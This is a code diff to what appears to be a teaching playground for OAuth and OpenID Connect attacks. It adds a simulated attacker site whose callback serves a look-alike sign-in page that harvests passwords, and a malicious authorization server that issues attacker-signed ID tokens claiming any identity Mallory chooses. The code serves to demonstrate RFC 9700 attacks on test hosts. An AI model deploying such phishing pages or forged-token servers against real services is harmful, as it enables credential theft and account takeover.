@@ -7,12 +7,17 @@ transcript and the sequence diagram show the attack as its own lifeline.
 
 from __future__ import annotations
 
+import base64
+import hashlib
 from dataclasses import dataclass, field
+from typing import Any
 from urllib.parse import parse_qs, urlencode, urlsplit
 
 import httpx
+import jwt
 from flask import Flask, jsonify, redirect, render_template_string, request
 
+from mock_servers.keys import SigningKey
 from playground.actors.browser import Browser, Clock
 from playground.wire.exchange import Party
 from playground.wire.network import Host, Network
@@ -55,6 +60,35 @@ border:0;opacity:0;z-index:2}
 </div></body></html>"""
 
 
+# PhotoPrintz's redirect URI, `/callback`: a friendly page for a code; for an
+# error response, a copy of the real server's sign-in page (RFC 9700 4.11.2:
+# the authorization server as the phisher's open redirector).
+_PHOTOPRINTZ_PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
+<title>PhotoPrintz</title></head><body>
+<h1>PhotoPrintz</h1><p>Welcome back! Your prints are on their way.</p>
+</body></html>"""
+
+_LOOK_ALIKE_SIGN_IN = """<!doctype html>
+<html lang="en"><head><meta charset="utf-8">
+<title>Sign in - Playground Authorization Server</title></head>
+<body><div class="card" id="login">
+<h1>Sign in</h1>
+<p>Your session has expired. Sign in to <strong>{{ issuer }}</strong> to
+continue.</p>
+<form method="post" action="/sign-in" id="login-form">
+<p><label>Username <input name="username" autocomplete="username"></label></p>
+<p><label>Password <input name="password" type="password"
+ autocomplete="current-password"></label></p>
+<p><button type="submit">Sign in</button></p>
+</form>
+</div></body></html>"""
+
+_SIGNED_IN = """<!doctype html><html lang="en"><head><meta charset="utf-8">
+<title>Signed in - Playground Authorization Server</title></head><body>
+<h1>Thank you</h1><p>Your account is confirmed. You can close this tab.</p>
+</body></html>"""
+
+
 @dataclass(frozen=True)
 class Loot:
     """One thing that reached the attacker's site, and how it got there."""
@@ -70,6 +104,8 @@ class AttackerSite:
     """The attacker's web server: every request it gets is searched for loot."""
 
     loot: list[Loot] = field(default_factory=list)
+    # The real authorization server, whose sign-in page the site copies.
+    honest_issuer: str = "https://auth.photos.test"
     app: Flask = field(init=False)
 
     def __post_init__(self) -> None:
@@ -99,6 +135,22 @@ class AttackerSite:
             self._keep()
             return render_template_string(_FRAME_PAGE, url=request.args.get("url", ""))
 
+        @app.route("/callback", methods=["GET", "POST"])
+        def callback() -> str:
+            """PhotoPrintz's redirect URI (a registered client of Mallory's)."""
+            self._keep()
+            if "error" in request.args:
+                return render_template_string(
+                    _LOOK_ALIKE_SIGN_IN, issuer=self.honest_issuer
+                )
+            return _PHOTOPRINTZ_PAGE
+
+        @app.post("/sign-in")
+        def sign_in() -> str:
+            """Where the look-alike sign-in form posts: the password is loot."""
+            self._keep()
+            return _SIGNED_IN
+
         @app.route("/", defaults={"path": ""}, methods=["GET", "POST"])
         @app.route("/<path:path>", methods=["GET", "POST"])
         def anything(path: str) -> tuple[str, int] | str:
@@ -110,19 +162,49 @@ class AttackerSite:
         return app
 
 
+@dataclass(frozen=True)
+class Identity:
+    """Whom Mallory's server says the user is: the claims of its ID tokens.
+    She runs the server, so it says whatever she likes."""
+
+    sub: str
+    name: str
+    email: str
+    email_verified: bool = True
+
+
+@dataclass(frozen=True)
+class IssuedCode:
+    """A code Mallory's server issued, and what its ID token will say."""
+
+    client_id: str
+    nonce: str | None
+    scope: str
+
+
 @dataclass
 class MixUpAuthorizationServer:
     """Mallory's own authorization server at `as.attacker.test`,
     where PhotoPrint is registered too (RFC 9700 4.4, the mix-up attack).
 
-    `/authorize` does not authorize anything: it sends the browser on to the
-    honest authorization server with the very same parameters, so Alice signs
-    in and approves at the real server. `/token` keeps whatever code a
-    confused client sends it (as the site's loot) and answers an error.
+    By default `/authorize` does not authorize anything: it sends the browser
+    on to the honest authorization server with the very same parameters, so
+    Alice signs in and approves at the real server, and `/token` keeps
+    whatever code a confused client sends it (as the site's loot) and answers
+    an error.
+
+    Once Mallory has it `vouch_for` someone, it is an OpenID Provider of her
+    own: `/authorize` issues a code at once, and `/token` answers with an ID
+    token, signed with her key (published at `/jwks.json`), that says
+    whatever she told it to.
     """
 
     site: AttackerSite
     honest_issuer: str
+    signing_key: SigningKey | None = None
+    clock: Clock | None = None
+    identity: Identity | None = None
+    codes: dict[str, IssuedCode] = field(default_factory=dict)
     app: Flask = field(init=False)
 
     def __post_init__(self) -> None:
@@ -132,24 +214,84 @@ class MixUpAuthorizationServer:
     def issuer(self) -> str:
         return ATTACKER_AS_URL
 
+    def vouch_for(
+        self, *, sub: str, name: str, email: str, email_verified: bool = True
+    ) -> Identity:
+        """From now on, sign in whoever comes as this identity."""
+        self.identity = Identity(sub, name, email, email_verified)
+        return self.identity
+
+    def _new_code(self) -> str:
+        # Deterministic, so a replay of a lesson shows the same values.
+        digest = hashlib.sha256(f"mallory-code-{len(self.codes)}".encode()).digest()
+        return base64.urlsafe_b64encode(digest).decode().rstrip("=")
+
+    def _id_token(self, issued: IssuedCode) -> str:
+        assert self.identity is not None and self.signing_key is not None
+        now = int(self.clock.now()) if self.clock else 0
+        claims: dict[str, Any] = {
+            "iss": self.issuer,
+            "sub": self.identity.sub,
+            "aud": issued.client_id,
+            "iat": now,
+            "exp": now + 3600,
+            "name": self.identity.name,
+            "email": self.identity.email,
+            "email_verified": self.identity.email_verified,
+        }
+        if issued.nonce:
+            claims["nonce"] = issued.nonce  # whatever the client asked for
+        return jwt.encode(
+            claims,
+            self.signing_key.private_key,
+            algorithm="RS256",
+            headers={"kid": self.signing_key.kid},
+        )
+
     def _create_app(self) -> Flask:
         app = Flask("attacker_authorization_server")
 
         @app.get("/authorize")
         def authorize():
-            self.site._keep()
-            # Same client_id, redirect_uri, state, scope (and PKCE, if any):
-            # the real authorization server sees an ordinary request.
-            query = urlencode(list(request.args.items(multi=True)))
-            return redirect(f"{self.honest_issuer}/authorize?{query}", code=302)
+            if self.identity is None:
+                self.site._keep()
+                # Same client_id, redirect_uri, state, scope (and PKCE, if
+                # any): the real authorization server sees an ordinary request.
+                query = urlencode(list(request.args.items(multi=True)))
+                return redirect(f"{self.honest_issuer}/authorize?{query}", code=302)
+            code = self._new_code()
+            self.codes[code] = IssuedCode(
+                request.args.get("client_id", ""),
+                request.args.get("nonce"),
+                request.args.get("scope", ""),
+            )
+            answer = {"code": code, "iss": self.issuer}
+            if "state" in request.args:
+                answer["state"] = request.args["state"]
+            redirect_uri = request.args.get("redirect_uri", "")
+            return redirect(f"{redirect_uri}?{urlencode(answer)}", code=302)
 
         @app.post("/token")
         def token():
-            self.site._keep()  # the code, as a form field of the token request
+            issued = self.codes.pop(request.form.get("code", ""), None)
+            if issued is None or self.identity is None:
+                self.site._keep()  # a code it never issued: loot (mix-up)
+                return jsonify(
+                    error="invalid_grant",
+                    error_description="The code is invalid or has expired.",
+                ), 400
             return jsonify(
-                error="invalid_grant",
-                error_description="The code is invalid or has expired.",
-            ), 400
+                access_token=f"mallory-at-{self._new_code()[:16]}",
+                token_type="Bearer",
+                expires_in=3600,
+                scope=issued.scope,
+                id_token=self._id_token(issued),
+            )
+
+        @app.get("/jwks.json")
+        def jwks():
+            keys = self.signing_key.public_jwks() if self.signing_key else {"keys": []}
+            return jsonify(keys)
 
         return app
 
@@ -158,11 +300,19 @@ class Attacker:
     """Mallory: their site, their browser, and a client to use stolen things."""
 
     def __init__(
-        self, network: Network, issuer: str, api_url: str, clock: Clock | None = None
+        self,
+        network: Network,
+        issuer: str,
+        api_url: str,
+        clock: Clock | None = None,
+        *,
+        signing_key: SigningKey | None = None,
     ) -> None:
-        self.site = AttackerSite()
+        self.site = AttackerSite(honest_issuer=issuer)
         # Mallory's own authorization server (mix-up), routed by the world.
-        self.authorization_server = MixUpAuthorizationServer(self.site, issuer)
+        self.authorization_server = MixUpAuthorizationServer(
+            self.site, issuer, signing_key=signing_key, clock=clock
+        )
         self.network = network
         self.issuer = issuer
         self.api_url = api_url
@@ -185,7 +335,8 @@ class Attacker:
     def take_over_host(self, name: str) -> None:
         """Answer for a host name from now on: a malicious app on the same
         device that bound the native app's loopback port (or claimed its
-        custom URL scheme) first, RFC 8252 8.1 / RFC 7636 1."""
+        custom URL scheme) first, RFC 8252 8.1 / RFC 7636 1; or a service
+        of Mallory's that other sites embed (a third-party analytics pixel)."""
         self.network.add_host(Host(name, Party.ATTACKER, self.site.app))
 
     def secrets_received(self) -> list[Loot]:
